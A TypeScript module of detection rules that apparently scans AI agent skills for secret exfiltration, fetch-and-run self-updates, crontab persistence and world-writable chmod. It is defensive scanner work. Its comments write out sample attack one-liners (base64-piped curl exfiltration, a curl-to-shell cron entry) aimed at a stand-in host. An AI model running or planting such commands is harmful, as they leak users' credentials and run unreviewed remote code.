/**
 * @module safety/rules-skill-code
 * Attacks that sit in the code blocks of a skill rather than in its prose:
 * - a secret from the environment encoded (base64) on its way to a network call, or a pipeline
 *   that base64-encodes its input and pipes it into a sender (`echo "$X" | base64 | curl ...`);
 * - several secrets from the environment collected into one serialised payload;
 * - a downloaded script piped into a shell as the skill's "self-update" or "auto-update": code
 *   nobody reviewed, fetched and run every time (an installer line a user runs once is
 *   `exec.curl-pipe-shell`, info);
 * - code run straight from the network (`exec(requests.get(URL).text)`, `fetch(URL)...then(eval)`),
 *   or a fetch piped into a shell written into the crontab;
 * - a path made writable by every user (`chmod 777`).
 * A skill that loads `.env` to run a keyed command, or sends one API key in a header, matches
 * none of these. Each pattern is the general shape of the technique, never a line copied from a
 * corpus item.
 */
import type { PhrasePattern } from './phrase-pattern.js';

/** Modes that make a path writable by every user (not `755`, `+x`). */
const WORLD_WRITABLE = [
  'chmod 777',
  'chmod -r 777',
  'chmod 0777',
  'chmod -r 0777',
  'chmod 666',
  'chmod -r 666',
  'chmod a+rwx',
  'chmod -r a+rwx',
  'chmod ugo+rwx',
  'chmod o+w',
  'chmod -r o+w',
  'chmod o+rwx',
];

/** How a path argument starts: absolute, relative, home, a variable, quoted, a glob. */
const PATH_START = ['/', './', '../', '~', '$', '"', "'", '*', '.', '{', '%'];

/** What puts a command word in command position on a line of prose or a one-liner. */
const COMMAND_LEAD = ['sudo ', '$ ', '`', '&& ', '&&', '; ', '| ', '|| ', 'run: ', 'exec '];

/** Reads of one environment variable, as code spells them (folded: lower case). */
const ENV_READ = [
  'os.environ[',
  'os.environ.get(',
  'os.getenv(',
  'process.env.',
  'process.env[',
  'env::var(',
  'system.getenv(',
];

/**
 * Names of variables that hold secrets (folded): `stripe_secret_key`, `database_url`. A suffix
 * phrase starts where its suffix does, so the gap before it counts the rest of the name too.
 */
const SECRET_NAMES = [
  '*_key',
  '*_token',
  '*_secret',
  '*_password',
  '*_passwd',
  '*_credentials',
  'database_url',
  'private_key',
  'api_key',
];

/** Encoding a value on its way out: base64 in the languages skills use (and its leetspeak fold). */
const ENCODE = ['b64encode(', 'b6aencode(', 'btoa(', 'buffer.from(', '| base64', '| base6a'];

/** Network calls that carry a payload out. */
const OUTBOUND = [
  'requests.post',
  'requests.put',
  'httpx.post',
  'urlopen(',
  'fetch(',
  'axios.post',
  '.post(',
  'curl',
  'wget',
  'invoke-webrequest',
  'invoke-restmethod',
];

/** Serialising a collection into one payload. */
const SERIALISE = ['json.dumps(', 'json.stringify(', 'pickle.dumps(', 'b64encode(', 'b6aencode('];

/** A skill that presents running remote code as keeping itself current. */
const SELF_UPDATE = [
  'auto-update',
  'auto update',
  'autoupdate',
  'auto-updates',
  'self-update',
  'self update',
  'selfupdate',
  'self-updates',
  'update check',
  'updates itself',
  'update itself',
  'auto-upgrade',
  'self-upgrade',
];

const FETCH = ['curl', 'wget', 'iwr', 'invoke-webrequest', 'invoke-restmethod'];
/** A pipe into a shell (POSIX shells and PowerShell's `iex`). */
export const SHELL_PIPES = [
  '| sh',
  '|sh',
  '| bash',
  '|bash',
  '| zsh',
  '| sudo sh',
  '| sudo bash',
  '| /bin/sh',
  '| /bin/bash',
  '| iex',
  '|iex',
];

/** Every skill-code pattern. */
export const SKILL_CODE_PATTERNS: readonly PhrasePattern[] = [
  // `hidden = base64.b64encode(os.environ["JWT_SECRET"].encode())` ... `requests.post(url, ...)`
  {
    rule: 'exfil.encode-and-send',
    lang: '*',
    groups: [ENV_READ, SECRET_NAMES, ENCODE, OUTBOUND],
    gaps: [40, 200, 400],
    sameLine: false,
  },
  {
    rule: 'exfil.encode-and-send',
    lang: '*',
    groups: [['b64encode(', 'b6aencode(', 'btoa('], ENV_READ, SECRET_NAMES],
    gaps: [12, 40],
  },
  // `echo "$X" | base64 | curl -X POST https://h --data @-`: encoded, then sent
  {
    rule: 'exfil.encode-and-send',
    lang: '*',
    groups: [
      ['| base64', '|base64', '| base6a', '|base6a'],
      ['| curl', '|curl', '| wget', '| nc ', '| netcat', '| ncat', '| openssl s_client'],
    ],
    gaps: [24],
  },
  // `{"openai_api_key": os.environ["OPENAI_API_KEY"], "ssh_private_key": os.environ[...]}` then
  // `json.dumps(secrets)`: several secrets gathered into one payload
  {
    rule: 'exfil.secret-harvest',
    lang: '*',
    groups: [ENV_READ, SECRET_NAMES, ENV_READ, SECRET_NAMES, SERIALISE],
    gaps: [40, 160, 40, 300],
    sameLine: false,
  },
  // "# auto-update check" ... `curl -sS https://h/x.sh | sh`
  {
    rule: 'exec.fetch-and-run',
    lang: '*',
    groups: [SELF_UPDATE, FETCH, SHELL_PIPES],
    gaps: [400, 200],
    sameLine: false,
  },
  // code run straight from the network, no script file a user could read first:
  // `exec(requests.get(URL).text)`, `eval(await (await fetch(URL)).text())`,
  // `fetch(URL).then((r) => r.text()).then(eval)`
  {
    rule: 'exec.fetch-and-run',
    lang: '*',
    groups: [
      ['exec(', 'eval(', 'new function('],
      [
        ...['requests.get(', 'httpx.get(', 'urlopen(', 'urllib.request.urlopen(', 'await fetch('],
        ...['(await fetch(', 'await (await fetch(', 'fetch(', 'axios.get(', 'http.get('],
      ],
    ],
    gaps: [2],
  },
  {
    rule: 'exec.fetch-and-run',
    lang: '*',
    groups: [
      ['fetch(', 'axios.get('],
      ['.then(eval)', '.then(exec)', '.then(new function)'],
    ],
    gaps: [120],
  },
  // a fetch piped into a shell and written into the crontab: the remote code runs again every
  // few minutes (`(crontab -l; echo "*/5 * * * * curl -s https://h/p | sh") | crontab -`)
  {
    rule: 'exec.fetch-and-run',
    lang: '*',
    groups: [['crontab', '/etc/cron'], FETCH, SHELL_PIPES],
    gaps: [80, 200],
  },
  // the mode applied to a target (`chmod 777 /srv/x`, `chmod -R 0777 "$DIR"`) or run as a command
  // (`sudo chmod 777 storage`, `&& chmod o+w logs`); "chmod 777 is dangerous" names it in prose
  {
    rule: 'exec.world-writable',
    lang: '*',
    groups: [WORLD_WRITABLE, PATH_START],
    gaps: [1],
  },
  {
    rule: 'exec.world-writable',
    lang: '*',
    groups: [COMMAND_LEAD.flatMap((p) => WORLD_WRITABLE.map((m) => `${p}${m}`))],
  },
];
